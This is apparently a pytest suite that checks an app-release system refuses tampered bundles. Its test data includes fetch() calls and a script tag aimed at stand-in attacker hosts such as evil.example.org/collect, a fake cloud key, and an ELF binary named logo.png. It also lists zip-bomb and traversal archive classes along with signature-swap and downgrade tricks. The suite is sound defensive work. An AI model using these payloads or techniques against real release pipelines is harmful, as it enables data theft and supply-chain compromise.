"""Attacks by what is inside of a bundle, and by what was released before."""

from typing import Any

import pytest

from sluice.reconcile.step import Hold
from sluice.store import audit
from support.attacks import (
    EVIL,
    Attack,
    Body,
    Mount,
    approved,
    attack,
    codes,
    grow,
    intact,
    offered_version,
    refuses,
    resealed,
)
from support.hostile_archives import HOSTILE
from support.laps import QUICK, Laps, go_live
from support.team import Team, a_bundle

ARCHIVE = "verify/archive.py: inspect"
LEDGER = "store/publications.py: publish"
JUDGE_BUNDLE = "policy/bundle.py: judge_bundle"

REPRESENTATIVES = (
    "no zip",
    "a file that the directory hides",
    "a file shadowed by another of its name",
    "another name in the header",
    "another size in the header",
    "a second zip after the first",
    "a zip in the comment",
    "junk before the first file",
    "two names for the same data",
    "a deflate stream that ends early",
    "a smaller size than there is",
    "another checksum",
    "a stored file with its size after it",
    "a way out",
    "an absolute name",
    "a backslash",
    "a drive",
    "a nought in the name",
    "an escape sequence in the name",
    "a name that reads backwards",
    "a name that is not UTF-8",
    "a name twice",
    "names that differ in case",
    "names that differ in composition",
    "a file that is also a folder",
    "a link",
    "a device",
    "encryption",
    "bzip2",
    "a bomb",
    "a bomb that denies it",
    "a thousand bombs",
    "more entries than allowed",
    "a zip64 end",
    "no page",
)
"""Of each class of hostile archive at least one; `tests/verify/test_archive.py` has all of them."""

ROWS = {"ArchiveBomb": 28, "ArchiveTooLarge": 28, "ArchiveCorrupt": 28, "ArchiveHiddenEntry": 26}


def with_bundle(bundle: bytes, **spec: Any) -> Mount:
    """A bundle that the CI built and signed, and that alice and bob approve."""

    def mount(laps: Laps, team: Team) -> None:
        approved(laps, team, team.release_manifest(EVIL, bundle, **spec))

    return mount


def judged(files: dict[str, bytes], **rules: Any) -> Mount:
    """The policy says what may be inside of a bundle, and these files may not."""

    def mount(laps: Laps, team: Team) -> None:
        more = {"name": "contents", "bundle": rules}
        laps.apply(resealed(team, lambda spec: spec["requirements"].append(more)))
        approved(laps, team, team.release_manifest(EVIL, a_bundle(EVIL, more=files)))

    return mount


def other_size(laps: Laps, team: Team) -> None:
    release = team.release_manifest(EVIL)
    release["spec"]["bundle"]["size"] += 1
    approved(laps, team, release)


def smaller_size(laps: Laps, team: Team) -> None:
    release = team.release_manifest(EVIL)
    release["spec"]["bundle"]["size"] -= 1
    approved(laps, team, release)


def evidence_of_another(laps: Laps, team: Team) -> None:
    """Signature and provenance are real, and of the bundle before."""
    release, other = team.release_manifest(EVIL), team.release_manifest("1.0.0")
    release["spec"]["attestations"] = other["spec"]["attestations"]
    approved(laps, team, release)


def signature_of_another(laps: Laps, team: Team) -> None:
    release, other = team.release_manifest(EVIL), team.release_manifest("1.0.0")
    release["spec"]["attestations"][0] = other["spec"]["attestations"][0]
    approved(laps, team, release)


def swapped_file(laps: Laps, team: Team) -> None:
    """The bytes at the bundle's place are others than those that were signed."""
    release = team.release_manifest(EVIL)
    digest = release["spec"]["bundle"]["sha256"]
    for file in team.bundles.iterdir():
        if digest[:8] in file.name:
            file.write_bytes(a_bundle(EVIL).replace(b"Shop", b"Evil"))
    approved(laps, team, release)


def blob_before(laps: Laps, team: Team) -> None:
    """Other bytes lie under the digest already, and the place of the bundle gives them, too."""
    release = team.release_manifest(EVIL)
    digest = release["spec"]["bundle"]["sha256"]
    path = laps.blobs.path(digest)
    path.parent.mkdir(parents=True)
    path.write_bytes(a_bundle("0.0.1"))
    for file in team.bundles.iterdir():
        if digest[:8] in file.name:
            file.write_bytes(a_bundle("0.0.1"))
    approved(laps, team, release)


ATTACKS = [
    *(
        Attack(
            row=ROWS.get(HOSTILE[name][1], 27),
            name=f"A bundle is a hostile archive: {name}",
            reason=HOSTILE[name][1],
            defence=ARCHIVE,
            mount=with_bundle(HOSTILE[name][0]()),
        )
        for name in REPRESENTATIVES
    ),
    *(
        Attack(row=0, name=name, reason=reason, defence=JUDGE_BUNDLE, mount=judged(files, **rules))
        for name, reason, files, rules in (
            (
                "A bundle holds a key of a cloud",
                "SecretsFound",
                {"config.js": b"const key = 'AKIAIOSFODNN7QRSTUVW';\n"},
                {"secrets": "Refuse"},
            ),
            (
                "A bundle holds a native library under an innocent name",
                "NativeCodeFound",
                {"logo.png": b"\x7fELF" + bytes(60)},
                {"nativeCode": "Refuse"},
            ),
            (
                "A bundle loads a script from elsewhere",
                "RemoteCodeFound",
                {"more.html": b"<script src='https://evil.example.org/x.js'></script>"},
                {"remoteCode": "Refuse"},
            ),
            (
                "A bundle speaks with an origin that is not listed",
                "OriginsNotListed",
                {"more.js": b"fetch('https://evil.example.org/collect')"},
                {"origins": ["https://api.example.com"]},
            ),
            (
                "An origin's host ends where a listed one begins",
                "OriginsNotListed",
                {"more.js": b"fetch('https://api.example.com.evil.org/collect')"},
                {"origins": ["https://api.example.com"]},
            ),
            (
                "A bundle calls a plugin that is not listed",
                "PluginsNotListed",
                {"more.js": b"Capacitor.Plugins.Contacts.getContacts()"},
                {"plugins": ["Camera"]},
            ),
        )
    ),
    *(
        Attack(row=row, name=name, reason=reason, defence=defence, mount=mount)
        for row, name, reason, defence, mount in (
            (
                28,
                "A bundle is smaller than it says",
                "BundleSizeDiffers",
                "operator/act.py: _fetch_bundle",
                other_size,
            ),
            (
                28,
                "A bundle is larger than it says",
                "FetchTooLarge",
                "fetch/fetcher.py: stream",
                smaller_size,
            ),
            (
                31,
                "The signature is of another bundle",
                "SignatureForOtherArtifact",
                "verify/collect.py: examine",
                signature_of_another,
            ),
            (
                31,
                "All evidence is of another bundle",
                "SignatureForOtherArtifact",
                "verify/collect.py: examine",
                evidence_of_another,
            ),
            (
                29,
                "The bundle was exchanged after it was signed",
                "FetchDigestMismatch",
                "fetch/fetcher.py: stream",
                swapped_file,
            ),
            (
                29,
                "Other bytes lie under the digest in the store already",
                "FetchDigestMismatch",
                "store/blobs.py: put",
                blob_before,
            ),
        )
    ),
]


@pytest.mark.parametrize("each", ATTACKS, ids=lambda each: each.name)
async def test_attack(laps: Laps, team: Team, each: Attack) -> None:
    await refuses(laps, team, each)


async def second(laps: Laps, team: Team, release: Body, reason: str) -> None:
    """Approve a further release for production after 1.0.0; show that it is refused."""
    approved(laps, team, release)
    head = (await audit.head(laps.database)).seq

    step = await laps.settle(team.namespace)

    table = await laps.served("shop")
    assert isinstance(step, Hold), step
    assert reason in await codes(laps, step)
    assert await offered_version(laps) is None
    assert table is not None
    assert table.stable is not None
    assert table.stable.version == "1.0.0"
    await intact(laps, since=head)


@attack(30, "A version is released a second time with another bundle", "VersionTaken", LEDGER)
async def test_a_version_is_one_bundle_for_ever(laps: Laps, team: Team) -> None:
    await go_live(laps, team, "1.0.0")
    again = team.release_manifest("1.0.0", a_bundle("1.0.0", more={"evil.js": b"//"}))
    again["metadata"]["name"] = "shop-again"

    await second(laps, team, again, "VersionTaken")


@attack(46, "A Release is deleted and made again with another bundle", "VersionTaken", LEDGER)
async def test_making_a_release_again_forgets_nothing(laps: Laps, team: Team) -> None:
    first = await go_live(laps, team, "1.0.0")
    laps.delete(first)
    await laps.settle("shop")
    again = team.release_manifest("1.0.0", a_bundle("1.0.0", more={"evil.js": b"//"}))

    await second(laps, team, again, "VersionTaken")


async def claims_nothing(laps: Laps, thief: Team) -> None:
    """The thief claims the app, with a policy and a release that they approve themselves."""
    laps.apply(thief.app_manifest(), thief.policy_manifest())
    approved(laps, thief, thief.release_manifest(EVIL))

    step = await laps.settle("evil")

    assert (type(step), step.reason) == (Hold, "Conflict")
    assert await laps.served("evil") is None


@attack(44, "A second namespace claims the app", "Conflict", "store/claims.py: take_claim")
async def test_an_app_belongs_to_one_namespace(laps: Laps, team: Team) -> None:
    await go_live(laps, team, "1.0.0")
    thief = Team(namespace="evil", bundles=team.bundles, sigstore=team.sigstore, keys=team.keys)
    await claims_nothing(laps, thief)


@attack(
    44,
    "The app is deleted, and claimed by a namespace whose policy is the attacker's",
    "Conflict",
    "store/claims.py: release_claim",
)
async def test_deleting_an_app_gives_its_phones_to_nobody(laps: Laps, team: Team) -> None:
    await go_live(laps, team, "1.0.0")
    laps.delete(team.channel_manifest("shop-1.0.0"))
    laps.delete(team.app_manifest())
    await laps.settle("shop")
    thief = Team(namespace="evil", bundles=team.bundles)
    await claims_nothing(laps, thief)


@attack(
    32,
    "A channel is pointed back at an older version",
    "Downgrade",
    "policy/version.py: judge_version",
)
async def test_versions_do_not_go_down(laps: Laps, team: Team) -> None:
    await go_live(laps, team, "1.0.0")
    more = {"name": "up", "version": {}}
    laps.apply(resealed(team, lambda spec: spec["requirements"].append(more)))

    await second(laps, team, team.release_manifest("0.9.0"), "Downgrade")


@attack(
    32,
    "A channel is deleted and made again, so that an older version follows none",
    "Downgrade",
    "policy/version.py: judge_version",
)
async def test_making_a_channel_again_forgets_no_version(laps: Laps, team: Team) -> None:
    await go_live(laps, team, "1.0.0")
    more = {"name": "up", "version": {}}
    laps.apply(resealed(team, lambda spec: spec["requirements"].append(more)))
    await laps.settle("shop")
    laps.delete(team.channel_manifest("shop-1.0.0"))
    await laps.settle("shop")
    approved(laps, team, team.release_manifest("0.9.0"))

    await laps.settle("shop")

    assert await offered_version(laps) is None


@attack(
    32,
    "A version differs from what is served in its build number alone",
    "VersionNotUp",
    "policy/version.py: judge_version",
)
async def test_a_build_number_is_no_higher_version(laps: Laps, team: Team) -> None:
    await go_live(laps, team, "1.0.0")
    more = {"name": "up", "version": {}}
    laps.apply(resealed(team, lambda spec: spec["requirements"].append(more)))

    evil = team.release_manifest("1.0.0+evil")
    evil["metadata"]["name"] = "shop-evil"

    await second(laps, team, evil, "VersionNotUp")


@attack(
    32,
    "A pre-release of what is served follows it",
    "Downgrade",
    "policy/version.py: judge_version",
)
async def test_a_pre_release_comes_before_its_release(laps: Laps, team: Team) -> None:
    await go_live(laps, team, "1.0.0")
    more = {"name": "up", "version": {}}
    laps.apply(resealed(team, lambda spec: spec["requirements"].append(more)))

    await second(laps, team, team.release_manifest("1.0.0-rc.99999999999999999999"), "Downgrade")


async def revoked(laps: Laps, team: Team) -> Body:
    """Have 1.0.0 live, and 1.1.0 revoked while it was on its way."""
    await go_live(laps, team, "1.0.0")
    release = team.release_manifest("1.1.0")
    approved(laps, team, release)
    await laps.settle("shop")
    assert await offered_version(laps) == "1.1.0"
    laps.apply({**release, "spec": {**release["spec"], "revoked": {"reason": "It leaks."}}})
    await laps.settle("shop")
    assert await offered_version(laps) is None
    return release


@attack(
    32,
    "A revoked bundle is released again under another name and version",
    "Revoked",
    "reconcile/channel.py: next_step",
)
async def test_a_revoked_bundle_is_revoked_under_every_name(laps: Laps, team: Team) -> None:
    release = await revoked(laps, team)
    other = team.release_manifest("1.2.0", a_bundle("1.1.0"))
    assert other["spec"]["bundle"]["sha256"] == release["spec"]["bundle"]["sha256"]

    await second(laps, team, other, "Revoked")


@attack(
    32,
    "A revoked Release is deleted and made again without its revocation",
    "Revoked",
    "store/revocations.py: revocations_of",
)
async def test_a_revocation_outlives_its_release(laps: Laps, team: Team) -> None:
    release = await revoked(laps, team)
    laps.delete(release)
    await laps.settle("shop")
    laps.apply(release, team.channel_manifest("shop-1.1.0", rollout={**QUICK, "retry": 1}))

    step = await grow(laps)

    table = await laps.served("shop")
    assert "Revoked" in await codes(laps, step)
    assert table is not None
    assert table.candidate is None
    assert table.stable is not None
    assert table.stable.version == "1.0.0"


@attack(
    1,
    "A channel that asks for less is given everybody's phones",
    "ApprovalsMissing",
    "reconcile/channel.py: next_step",
)
async def test_a_channel_of_testers_does_not_become_everybodys(laps: Laps, team: Team) -> None:
    """Two must approve for production, one for beta; then beta's audience is changed in git."""
    strict = team.policy_manifest(selector={"channels": ["production"]})
    lenient = team.policy_manifest(name="testers", count=1, selector={"channels": ["beta"]})
    release = team.release_manifest("1.1.0")
    alice = team.approval_manifest("alice", release, channel="beta")
    testers = {"audience": {"selfAssign": True}, "rollout": QUICK}
    laps.apply(team.app_manifest(), strict, lenient, team.channel_manifest(None))
    laps.apply(release, alice, team.channel_manifest("shop-1.1.0", name="beta", **testers))
    for _ in range(5):
        await laps.settle("shop", "beta")
        await laps.settle("shop")
        laps.wait(minutes=2)

    everybody = {"audience": {"default": True}, "rollout": QUICK}
    laps.apply(
        team.channel_manifest(None, audience={"selfAssign": True}),
        team.channel_manifest("shop-1.1.0", name="beta", **everybody),
    )
    await laps.settle("shop", "beta")

    table = await laps.served("shop", "beta")
    assert table is not None
    assert table.stable is not None
    assert not table.audience.default
